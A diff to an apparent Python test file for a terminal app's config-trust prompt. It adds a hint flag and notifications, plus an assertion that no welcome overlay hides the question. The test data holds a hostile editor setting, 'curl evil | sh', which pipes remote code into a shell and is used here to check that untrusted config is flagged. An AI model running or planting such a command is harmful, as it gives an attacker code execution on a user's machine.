@@ -33,7 +33,12 @@ class Opened:
         self.engines = [FakeEngine(ALL)]
         config, problems = load_config(root, trust=trust)
         self.app = PantherApp(
-            self.engines[0], config=config, problems=problems, restart=self.start, trust=trust
+            self.engines[0],
+            config=config,
+            problems=problems,
+            restart=self.start,
+            trust=trust,
+            hint=True,
         )
 
     def start(self) -> EngineLink:
@@ -50,7 +55,7 @@ async def opened(
     root: Path, trust: bool | None = None
 ) -> AsyncIterator[tuple[Pilot[None], Opened]]:
     it = Opened(root, trust)
-    async with it.app.run_test(size=(160, 45)) as pilot:
+    async with it.app.run_test(size=(160, 45), notifications=True) as pilot:
         events = repository(it.engines[0], done(3))
         it.engines[0].say(
             *(
@@ -72,6 +77,7 @@ async def test_opening_asks_with_file_line_and_value_while_the_app_goes_on(root:
     async with opened(root) as (pilot, it):
         await asked(pilot, "network = true", "panther-tui.toml:1")
         await shows(pilot, 'editor = "curl evil | sh"', "panther-tui.toml:2", ALLOWS["editor"])
+        assert "New here?" not in screen_text(it.app), "nothing lies over the question"
         await wait_for(pilot, lambda: it.app.state.last_run)
         assert not it.app.config.network
         await pilot.press("enter", "space", "y")
